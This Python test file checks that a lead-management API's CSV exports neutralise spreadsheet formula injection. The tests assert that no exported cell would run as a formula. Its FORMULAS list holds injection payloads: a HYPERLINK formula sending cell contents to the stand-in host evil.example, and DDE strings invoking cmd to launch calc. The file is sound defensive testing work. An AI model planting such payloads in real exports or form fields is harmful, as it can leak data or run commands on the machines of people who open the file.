"""Lists as CSV contain no text of strangers that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import uuid

import pytest

from api.tables import cell
from leadmill.story import ANSWERS, Door
from tests.e2e.market import Market

FORMULAS = [
    '=HYPERLINK("https://evil.example/?x="&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u200b=1+1",
    " =1+1",
    "\uff1d1+1",
    "|calc",
    "%0A=1",
]


def rows(door: Door, path: str) -> list[dict[str, str]]:
    answer = door.request("GET", f"/api/{path}", headers={"Accept": "text/csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def runs(value: str) -> bool:
    """Whether a spreadsheet would take it for a formula."""
    begins = value.strip("\u200b \t\r\n")[:1]
    return begins in set("=+-@|%\uff1d") and not value.lstrip("+-").replace(".", "").isdigit()


@pytest.fixture(scope="module")
def leads(market: Market) -> list[str]:
    found = []
    for formula in FORMULAS:
        answer = market.public.call(
            "submit_lead",
            niche=market.slug,
            contact={"name": formula, "email": f"{uuid.uuid4().hex[:8]}@customer.example"},
            answers=ANSWERS,
            attribution={"partner": formula},
        )
        found.append(answer["lead_id"])
    return found


@pytest.mark.parametrize("select", ["", "select=*&"])
def test_no_list_contains_a_formula(market: Market, leads: list[str], select: str) -> None:
    found = rows(market.admin, f"leads?{select}id=in.({','.join(leads)})&order=created_at,id")
    cells = [value for row in found for value in row.values()]
    assert [value for value in cells if runs(value)] == []
    said = [row["contact_name"].removeprefix("'") for row in found]
    assert said == [formula.replace("\u200b", "") for formula in FORMULAS], "nothing is left out"


@pytest.mark.parametrize(
    ("columns", "name"),
    [
        *(("contact_name", "contact_name"), ("id,contact_name", "contact_name")),
        *(("who:contact_name,niches(name)", "who"), ("*,niches(name)", "contact_name")),
    ],
)
def test_no_range_of_a_list_contains_a_formula(
    market: Market, leads: list[str], columns: str, name: str
) -> None:
    query = f"leads?id=in.({','.join(leads)})&order=created_at,id&select={columns}"
    found = rows(market.admin, query)
    assert [value for row in found for value in row.values() if runs(value)] == []
    said = [row[name].removeprefix("'") for row in found]
    assert said == [formula.replace("\u200b", "") for formula in FORMULAS], "nothing is left out"


def test_a_range_of_a_list_is_the_same_as_in_the_whole_list(
    market: Market, leads: list[str]
) -> None:
    path = f"/api/leads?select=contact_name&id=in.({','.join(leads)})"
    table = {"Accept": "text/csv", "Prefer": "count=exact", "Range": "0-1"}
    answer = market.admin.request("GET", path, headers=table)
    assert (answer.status_code, answer.headers["content-range"]) == (206, f"0-1/{len(FORMULAS)}")
    for door, path, status, code in (
        (market.public, "leads?select=id", 401, "42501"),
        (market.member, "leads?select=id", 403, "42501"),
        (market.admin, "leads?select=nothing", 400, "42703"),
        (market.admin, "nothing?select=id", 404, "LM002"),
    ):
        refused = door.request("GET", f"/api/{path}", headers={"Accept": "text/csv"})
        assert (refused.status_code, refused.json()["code"]) == (status, code)
    assert market.public.request("GET", "/table").status_code == 404
    [level] = rows(market.admin, "competition_levels?select=price&limit=1") or [{"price": "1.00"}]
    assert level["price"].count(".") == 1


@pytest.mark.parametrize(
    "text", [*FORMULAS, "", "5", "-5.20", "+43", "a=1", "\t=1", 'a "b"', "\u00a0=x", "2026-01-01"]
)
def test_a_cell_is_quoted_as_the_database_quotes_it(market: Market, text: str) -> None:
    assert market.sql("select ops.csv_cell(%s)", text) == [(cell(text),)]


def test_numbers_dates_and_nulls_do_not_change(market: Market) -> None:
    [niche] = rows(market.admin, f"niches?slug=eq.{market.slug}")
    shown = (niche["slug"], niche["is_active"], niche["retired_at"])
    assert shown == (market.slug, "true", "")
    assert uuid.UUID(niche["id"])
    assert rows(market.admin, "niches?slug=eq.none") == []
    as_json = market.admin.get(f"niches?slug=eq.{market.slug}")
    assert list(niche) == list(as_json[0]), "the columns keep their order"


def test_a_list_returned_by_a_function_contains_no_formula(market: Market) -> None:
    answer = market.member.request(
        "GET", "/api/rpc/search_listings?page_size=1", headers={"Accept": "text/csv"}
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
